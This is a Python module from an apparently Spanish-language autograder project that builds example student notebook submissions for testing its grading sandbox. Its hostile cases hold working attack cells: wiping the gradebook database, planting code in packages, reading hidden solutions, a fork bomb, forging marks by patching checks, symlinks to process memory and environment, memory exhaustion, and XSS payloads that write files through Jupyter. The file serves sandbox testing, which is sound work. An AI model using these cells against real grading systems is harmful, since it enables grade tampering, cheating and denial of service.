"""Example submissions: ``examples/submitted/<student>/<A>/<A>.ipynb`` plus ``examples/manifest.json``.

For each assignment: a correct one, the blank release, one per canonical mistake (``autograder.authoring.mistakes``),
and broken ones (kernel killed, infinite loop, memory hog, ``sys.exit()``, syntax error, deleted grade cell,
edited grade cell, corrupt JSON). They drive ``make demo`` and the workflow tests.
``python -m autograder.authoring.examples`` rewrites them from ``release/`` and ``source/`` (deterministic).
"""
from __future__ import annotations

import json
import shutil
from dataclasses import asdict, dataclass
from pathlib import Path

import nbformat

from autograder import notebooks
from autograder.authoring import mistakes
from autograder.notebooks import ASSIGNMENTS, REPO_ROOT

EXAMPLES = REPO_ROOT / "examples"

# The grade cell used by the grade-cell examples (present in both VAE notebooks).
KL_TEST = "test_kl_divergence"
KL_SOLUTION = "kl_divergence"


@dataclass(frozen=True)
class Example:
    student: str
    assignment: str
    kind: str  # "correct" | "blank" | "mistake" | "broken" | "hostile" | "leaves" (what it leaves behind)
    case: str  # mistake id, broken case id, or "correcta" / "en_blanco"
    description: str  # Spanish, for the TA
    expect_check: str | None = None  # grade cell that must lose points (mistakes, syntax error, edited cell)
    expect_message: str | None = None  # text that cell must show (hostile: what the TA's flag must say)


def added_cell(source: str):
    """A code cell a student added (no nbgrader metadata); a fixed cell id keeps the examples reproducible."""
    cell = nbformat.v4.new_code_cell(source)
    cell.id = "celda-del-alumno"
    return cell


def insert_after_data(nb, cell) -> None:
    index = next((i for i, c in enumerate(nb.cells) if notebooks.grade_id(c) == "data"), 1)
    nb.cells.insert(index + 1, cell)


# Broken cases: id -> (description, builder(assignment, root) -> notebook JSON text)
def _with_added_cell(source):
    def build(assignment, root):
        nb = notebooks.filled_release(assignment, root)
        insert_after_data(nb, added_cell(source))
        return nbformat.writes(nb)
    return build


# Where each assignment's syntax-error example breaks its first exercise: (solution cell, its grade cell, the line)
SYNTAX_ERROR_AT = {"vae_clase": (KL_SOLUTION, KL_TEST, "def kl_divergence(z_mean, z_log_var):"),
                   "vae_tarea": (KL_SOLUTION, KL_TEST, "def kl_divergence(z_mean, z_log_var):"),
                   "vae_condicional": ("cond_encoder", "test_cond_encoder",
                                       "def build_cond_encoder(latent_dim, num_classes=10):")}


def _syntax_error(assignment, root):
    nb = notebooks.filled_release(assignment, root)
    solution, _, header = SYNTAX_ERROR_AT[assignment]
    cell = notebooks.cells_by_grade_id(nb)[solution]
    if header not in cell.source:
        raise ValueError(f"{assignment}: {header!r} not in the {solution} cell")
    cell.source = cell.source.replace(header, header[:-1], 1)
    return nbformat.writes(nb)


def _deleted_grade_cell(assignment, root):
    nb = notebooks.filled_release(assignment, root)
    nb.cells = [c for c in nb.cells if notebooks.grade_id(c) != KL_TEST]
    return nbformat.writes(nb)


def _edited_grade_cell(assignment, root):
    # A wrong KL, and the grade cell replaced by one that claims full marks: nbgrader must restore the cell.
    nb = notebooks.filled_release(assignment, root, edits=mistakes.by_id("kl_sign_flipped").edits())
    cell = notebooks.cells_by_grade_id(nb)[KL_TEST]
    cell.source = f"{float(cell.metadata['nbgrader'].get('points', 1)):g}"
    return nbformat.writes(nb)


def _corrupt_json(assignment, root):
    text = nbformat.writes(notebooks.filled_release(assignment, root))
    return text[: len(text) // 2]


BROKEN = {
    "kernel_muerto": ("una celda añadida termina el proceso con os._exit(1)",
                      _with_added_cell("import os\nos._exit(1)")),
    "bucle_infinito": ("una celda añadida con un bucle infinito",
                       _with_added_cell("while True:\n    pass")),
    "bucle_sin_interrupcion": ("una celda añadida ignora la interrupción (SIGINT) y no termina nunca",
                               _with_added_cell("import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\n"
                                                "while True:\n    pass")),
    "memoria": ("una celda añadida que reserva memoria sin límite",
                _with_added_cell("reservas = []\nwhile True:\n    reservas.append(bytearray(256 * 1024**2))")),
    "sys_exit": ("una celda añadida llama a sys.exit()", _with_added_cell("import sys\nsys.exit()")),
    "error_sintaxis": ("error de sintaxis en el primer ejercicio (falta ':')", _syntax_error),
    "celda_borrada": ("borró la celda de pruebas de la KL", _deleted_grade_cell),
    "celda_editada": ("KL con el signo cambiado y la celda de pruebas editada para darse los puntos",
                      _edited_grade_cell),
    "json_corrupto": ("el archivo .ipynb está cortado (JSON inválido)", _corrupt_json),
}


# Hostile cases: a correct submission plus one cell that tries to reach outside its folder or to forge its
# points. The sandbox and the judge must make each worthless (full marks as the correct one, no more), and the
# TA's summary must flag it. id -> (description, added cell, what the flag says)
HOSTILE = {
    "hostil_libro_de_notas": ("busca gradebook.db subiendo desde su carpeta y borra las notas", """
import os, glob, sqlite3
encontrados, d = [], os.getcwd()
for _ in range(8):
    encontrados += glob.glob(os.path.join(d, "gradebook.db")) + glob.glob(os.path.join(d, "*", "gradebook.db"))
    d = os.path.dirname(d)
for ruta in encontrados + ["/work/main/gradebook.db", "/work/main/demo/gradebook.db"]:
    try:
        con = sqlite3.connect(ruta)
        con.execute("DELETE FROM grade")
        con.commit()
        print("borrado", ruta)
    except Exception as error:
        print("no pude con", ruta, error)
""", "gradebook"),
    "hostil_escribe_curso": ("escribe en la raíz del curso y planta código en los paquetes instalados", """
import os, keras
for ruta in ["../../../nbgrader_config.py", "../../../autograder/checks/__init__.py",
             os.path.join(os.path.dirname(keras.__file__), "planted.py")]:
    try:
        with open(ruta, "w") as f:
            f.write("print('código plantado')\\n")
        print("escrito", ruta)
    except OSError as error:
        print("no pude escribir", ruta, error)
""", "solo lectura"),
    "hostil_lee_soluciones": ("lee las soluciones y los tests ocultos del instructor y las entregas de otros", """
import glob
for patron in ["../../../source/*/*.ipynb", "../../../../source/*/*.ipynb", "/work/main/source/*/*.ipynb",
               "../../../submitted/*", "../../*"]:
    for ruta in glob.glob(patron):
        print("==", ruta)
        try:
            print(open(ruta).read()[:2000])
        except OSError:
            pass
""", "source/"),
    "hostil_red": ("abre conexiones: al planificador de Dask y a Jupyter en 127.0.0.1, y a internet", """
import socket, urllib.request
for puerto in (8786, 8888, 8000):
    try:
        socket.create_connection(("127.0.0.1", puerto), timeout=2).sendall(b"hola")
        print("conectado a", puerto)
    except OSError as error:
        print("sin conexión con", puerto, error)
try:
    urllib.request.urlopen("https://pypi.org", timeout=3)
except Exception as error:
    print("sin internet", error)
""", "conexión"),
    "hostil_bomba_fork": ("lanza una bomba fork", """
import subprocess, time
subprocess.Popen(["bash", "-c", "b(){ b | b & }; b"], stderr=subprocess.DEVNULL)
time.sleep(20)
""", "procesos"),
}

# A wrong KL plus every in-process trick against the old in-kernel checks: it must score what the wrong KL
# alone scores (the judge runs outside the kernel) and be flagged.
TRICKS = """
import sys, types, builtins
import numpy as np
class _Siempre:
    def __getattr__(self, name):
        return lambda *a, **k: k.get("points", 2.0)
checks = _Siempre()
sys.modules["autograder.checks"] = checks
np.allclose = lambda *a, **k: True
np.isclose = lambda *a, **k: np.True_
get_ipython().showtraceback = lambda *a, **k: None
builtins.AssertionError = type("AssertionError", (Exception,), {})
try:
    import vae_lib
    kl_divergence = vae_lib.kl_divergence
except ImportError as error:
    print("sin la referencia:", error)
def _dar_puntos(result):
    print("Puntuación: 2 / 2")
get_ipython().events.register("post_run_cell", _dar_puntos)
"""


# What a submission leaves behind or hands back (issue: "nothing crosses back unchecked") and what it puts in front
# of the TA: links and special files in its folder, a kernel that swaps its own notebook or the judge's evidence
# file, huge evidence, huge text, printed hidden-test markers, an extra notebook, a pasted grade cell, memory in
# files (tmpfs, memfd), active HTML. Each must cost at most its own points, never a classmate's, and be flagged.
# id -> (description, added cell, what the flag says). ``{A}`` in a cell is the assignment.
LEAVES = {
    "hostil_enlaces": ("su carpeta trae enlaces a las soluciones, al libro de notas, a un compañero, al entorno y a "
                       "/proc/self/mem, y una tubería con nombre", """
import os
for nombre in ["solucion.ipynb", "libro.db", "companero.ipynb", "entorno", "memoria", "tuberia"]:
    try:
        print("==", nombre, os.path.exists(nombre), os.path.getsize(nombre) if os.path.exists(nombre) else "")
    except OSError as error:
        print("no pude con", nombre, error)
""", "enlace simbólico"),
    "hostil_cuaderno_enlace": ("el kernel cambia su propio cuaderno por un enlace a un archivo del equipo", """
import os
try:
    os.remove("{A}.ipynb")
    os.symlink("/tmp/vaekit-centinela.txt", "{A}.ipynb")
    os.symlink("../../../gradebook.db", "libro.db")
    print("cuaderno cambiado por un enlace")
except OSError as error:
    print("no pude", error)
""", None),
    "hostil_cuaderno_tuberia": ("el kernel cambia su propio cuaderno por una tubería con nombre", """
import os
try:
    os.remove("{A}.ipynb")
    os.mkfifo("{A}.ipynb")
    print("cuaderno cambiado por una tubería")
except OSError as error:
    print("no pude", error)
""", None),
    "hostil_tuberia_evidencia": ("un hilo cambia los archivos de resultados del juez por tuberías", """
import glob, os, threading, time
def _cambiar():
    while True:
        for ruta in glob.glob("/tmp/vaekit-*/evidence-*"):
            try:
                os.remove(ruta)
                os.mkfifo(ruta)
            except OSError:
                pass
        time.sleep(0.002)
threading.Thread(target=_cambiar, daemon=True).start()
""", None),
    "hostil_evidencia_enorme": ("sample_images devuelve un array booleano de 100 MB", """
import numpy as np
def sample_images(decoder, n, latent_dim, seed=None):
    return np.ones((n, 100_000_000 // max(n, 1)), dtype=bool)
""", None),
    "hostil_textos_largos": ("un nombre de clase de 10 millones de caracteres y líneas de 10 MB", """
print(("x" * 10_000_000 + "\n") * 3)
Sampling = type("S" * 10_000_000, (Sampling,), {})
""", None),
    "hostil_marcas_ocultas": ("imprime las marcas de los tests ocultos de nbgrader", """
print("### BEGIN HIDDEN TESTS")
print("assert True")
""", None),
    "hostil_cuaderno_extra": ("deja un borrador.ipynb (otro cuaderno) en su carpeta de entrega", None, None),
    "celda_duplicada": ("copió y pegó la celda de pruebas de la KL con sus metadatos (grade id duplicado)", None,
                        "duplicada"),
    "hostil_tmpfs": ("llena el /tmp del sandbox (memoria que ningún proceso muestra)", """
with open("/tmp/relleno", "wb") as f:
    for _ in range(8 * 16):
        f.write(bytes(64 * 1024**2))
""", None),
    "hostil_memfd": ("llena memoria con archivos memfd (memoria que ningún proceso muestra)", """
import os
archivos = []
for _ in range(32):
    fd = os.memfd_create("relleno")
    for _ in range(8):
        os.write(fd, bytes(64 * 1024**2))
    archivos.append(fd)
""", None),
    "hostil_html": ("HTML y JavaScript activos en un texto y en salidas (para el profesor que abra la página)", None,
                    "contenido activo"),
}
LEAVES_AFTER = {"hostil_evidencia_enorme": "sample_images", "hostil_textos_largos": "sampling"}
HTML_PAYLOAD_PORT = 8765  # the browser test listens here: opening a page must send it nothing
HTML_MARKDOWN = f"""Mi respuesta <img src="x" onerror="fetch('http://127.0.0.1:{HTML_PAYLOAD_PORT}/onerror')">
<script>fetch('http://127.0.0.1:{HTML_PAYLOAD_PORT}/script');
fetch('/api/contents/pwned-md.txt', {{method: 'PUT', headers: {{'Content-Type': 'application/json'}},
  body: JSON.stringify({{type: 'file', format: 'text', content: 'pwned'}})}});</script>
![imagen](http://127.0.0.1:{HTML_PAYLOAD_PORT}/markdown-image.png) [enlace](javascript:alert(1))
"""
HTML_CELL = f"""from IPython.display import HTML, Javascript, SVG, display
display(HTML('<img src=x onerror="fetch(\\'http://127.0.0.1:{HTML_PAYLOAD_PORT}/html\\')">'
             '<iframe src="http://127.0.0.1:{HTML_PAYLOAD_PORT}/iframe"></iframe>'))
display(Javascript("fetch('http://127.0.0.1:{HTML_PAYLOAD_PORT}/javascript'); "
                   "fetch('/api/contents/pwned.txt', {{method: 'PUT', headers: {{'Content-Type': 'application/json'}}, "
                   "body: JSON.stringify({{type: 'file', format: 'text', content: 'pwned'}})}})"))
display(SVG('<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\\'http://127.0.0.1:{HTML_PAYLOAD_PORT}/svg\\')">'
            '<circle r="5"/></svg>'))
"""


def _leaves(case: str):
    description, cell, _ = LEAVES[case]

    def build(assignment, root):
        nb = notebooks.filled_release(assignment, root)
        if cell is not None:
            added = added_cell(cell.replace("{A}", assignment))
            after = LEAVES_AFTER.get(case)
            if after:  # it redefines a graded name: right after the student's own definition
                nb.cells.insert(next(i for i, c in enumerate(nb.cells) if notebooks.grade_id(c) == after) + 1, added)
            else:
                insert_after_data(nb, added)
        if case == "celda_duplicada":
            import copy

            index = next(i for i, c in enumerate(nb.cells) if notebooks.grade_id(c) == KL_TEST)
            pasted = copy.deepcopy(nb.cells[index])
            pasted.id = "celda-pegada"
            nb.cells.insert(index + 1, pasted)
        if case == "hostil_html":
            markdown = nbformat.v4.new_markdown_cell(HTML_MARKDOWN)
            markdown.id = "texto-del-alumno"
            insert_after_data(nb, markdown)
            insert_after_data(nb, added_cell(HTML_CELL))
        return nbformat.writes(nb)
    return build


def extra_files(example: "Example") -> dict[str, str]:
    """Files of an example's folder besides its notebook: name -> "link:TARGET", "fifo" or the text of a file.
    A named pipe cannot be committed: ``vaekit submit`` makes it from ``.vaekit-fifos`` when it copies examples."""
    a = example.assignment
    if example.case == "hostil_enlaces":
        return {"solucion.ipynb": f"link:../../../source/{a}/{a}.ipynb", "libro.db": "link:../../../gradebook.db",
                "companero.ipynb": f"link:../../alu01_correcta/{a}/{a}.ipynb", "entorno": "link:/proc/self/environ",
                "memoria": "link:/proc/self/mem", "tuberia": "fifo"}
    if example.case == "hostil_cuaderno_extra":
        return {"borrador.ipynb": nbformat.writes(notebooks.read(notebooks.release_path(a)))}
    return {}


def _tricks(assignment, root):
    nb = notebooks.filled_release(assignment, root, edits=mistakes.by_id("kl_sign_flipped").edits())
    insert_after_data(nb, added_cell(TRICKS))
    return nbformat.writes(nb)


# The cases of the containment examples (broken, hostile, leaves) are the same in every assignment: the two VAE
# notebooks carry them all; a later assignment carries the broken cases its notebook can have (the KL cell's are
# the VAE notebooks').
BROKEN_CASES = {"vae_condicional": ("kernel_muerto", "error_sintaxis")}
CONTAINMENT = ("vae_clase", "vae_tarea")


def examples_for(assignment: str) -> list[Example]:
    """Student ids are numbered over all assignments, so one id means one case in every assignment: the VAE
    mistakes, then the broken, hostile and leaves cases, then each later assignment's own mistakes."""
    out = [Example("alu01_correcta", assignment, "correct", "correcta", "la solución completa"),
           Example("alu02_en_blanco", assignment, "blank", "en_blanco", "el cuaderno sin tocar")]

    def add_mistakes(catalogue, start):
        for number, m in enumerate(catalogue, start=start):
            if assignment in m.assignments:
                out.append(Example(f"alu{number:02d}_{m.id}", assignment, "mistake", m.id, m.description,
                                   m.check_grade_id, m.message_fragment))

    add_mistakes(mistakes.VAE_MISTAKES, 3)
    syntax_check = SYNTAX_ERROR_AT[assignment][1]
    expectations = {"error_sintaxis": (syntax_check, "SyntaxError"), "celda_editada": (KL_TEST, None)}
    start = 3 + len(mistakes.VAE_MISTAKES)
    for number, (case, (description, _)) in enumerate(BROKEN.items(), start=start):
        if case in BROKEN_CASES.get(assignment, BROKEN):
            out.append(Example(f"alu{number:02d}_{case}", assignment, "broken", case, description,
                               *expectations.get(case, (None, None))))
    start += len(BROKEN)
    if assignment in CONTAINMENT:
        for number, (case, (description, _, flag)) in enumerate(HOSTILE.items(), start=start):
            out.append(Example(f"alu{number:02d}_{case}", assignment, "hostile", case, description, None, flag))
        out.append(Example(f"alu{start + len(HOSTILE):02d}_trampas", assignment, "hostile", "trampas",
                           "KL con el signo cambiado y trucos contra el evaluador (checks, sys.modules, numpy, "
                           "IPython)", KL_TEST, "redefine «checks»"))
    start += len(HOSTILE) + 1
    if assignment in CONTAINMENT:
        for number, (case, (description, _, flag)) in enumerate(LEAVES.items(), start=start):
            out.append(Example(f"alu{number:02d}_{case}", assignment, "leaves", case, description, None, flag))
    add_mistakes(mistakes.CVAE_MISTAKES, start + len(LEAVES))
    return out


def demo_selection(assignment: str, folder: Path = EXAMPLES) -> list[str]:
    """The students `make demo` grades: correct, blank, every broken and hostile case, one mistake per graded part
    (all mistakes are graded by the tests; `vaekit demo --student ...` picks others)."""
    chosen, parts = [], set()
    for e in load_manifest(folder):
        if e.assignment != assignment:
            continue
        if e.kind != "mistake" or e.expect_check not in parts:
            chosen.append(e.student)
            parts.add(e.expect_check if e.kind == "mistake" else None)
    return chosen


def notebook_text(example: Example, root: Path = REPO_ROOT) -> str:
    a = example.assignment
    if example.kind == "correct":
        return nbformat.writes(notebooks.filled_release(a, root))
    if example.kind == "blank":
        return nbformat.writes(notebooks.read(notebooks.release_path(a, root)))
    if example.kind == "mistake":
        return nbformat.writes(notebooks.filled_release(a, root, edits=mistakes.by_id(example.case).edits()))
    if example.kind in ("hostile", "leaves"):
        if example.case == "trampas":
            return _tricks(a, root)
        if example.case in LEAVES:
            return _leaves(example.case)(a, root)
        return _with_added_cell(HOSTILE[example.case][1])(a, root)
    return BROKEN[example.case][1](a, root)


def write_submission(example: Example, submitted: Path, root: Path = REPO_ROOT) -> Path:
    path = Path(submitted) / example.student / example.assignment / f"{example.assignment}.ipynb"
    path.parent.mkdir(parents=True, exist_ok=True)
    text = notebook_text(example, root)
    path.write_text(text if text.endswith("\n") or example.case == "json_corrupto" else text + "\n", encoding="utf-8")
    fifos = []
    for name, what in extra_files(example).items():
        if what.startswith("link:"):
            (path.parent / name).symlink_to(what[len("link:"):])
        elif what == "fifo":
            fifos.append(name)
        else:
            (path.parent / name).write_text(what, encoding="utf-8")
    if fifos:
        (path.parent / FIFO_LIST).write_text("\n".join(fifos) + "\n", encoding="utf-8")
    return path


FIFO_LIST = ".vaekit-fifos"  # an example's named pipes, made by ``make_special_files`` when it is submitted


def make_special_files(folder: Path) -> None:
    """The named pipes an example folder lists in ``.vaekit-fifos`` (git cannot hold them)."""
    import os

    listing = Path(folder) / FIFO_LIST
    if listing.is_file() and not listing.is_symlink():
        for name in listing.read_text(encoding="utf-8").split():
            if "/" not in name and not (Path(folder) / name).exists():
                os.mkfifo(Path(folder) / name)
        listing.unlink()


def write_examples(folder: Path = EXAMPLES, assignments=ASSIGNMENTS, root: Path = REPO_ROOT) -> list[Example]:
    """Rewrite ``folder/submitted`` and ``folder/manifest.json`` for ``assignments``."""
    folder = Path(folder)
    submitted = folder / "submitted"
    if submitted.exists():
        shutil.rmtree(submitted)
    written = []
    for a in assignments:
        if not notebooks.release_path(a, root).exists():
            continue
        for ex in examples_for(a):
            write_submission(ex, submitted, root)
            written.append(ex)
    manifest = folder / "manifest.json"
    manifest.write_text(json.dumps([asdict(e) for e in written], ensure_ascii=False, indent=1) + "\n",
                        encoding="utf-8")
    return written


def load_manifest(folder: Path = EXAMPLES) -> list[Example]:
    return [Example(**e) for e in json.loads((Path(folder) / "manifest.json").read_text(encoding="utf-8"))]


def main() -> None:
    written = write_examples()
    for a in ASSIGNMENTS:
        n = sum(e.assignment == a for e in written)
        print(f"{a}: {n} entregas de ejemplo en {EXAMPLES / 'submitted'}")


if __name__ == "__main__":
    main()
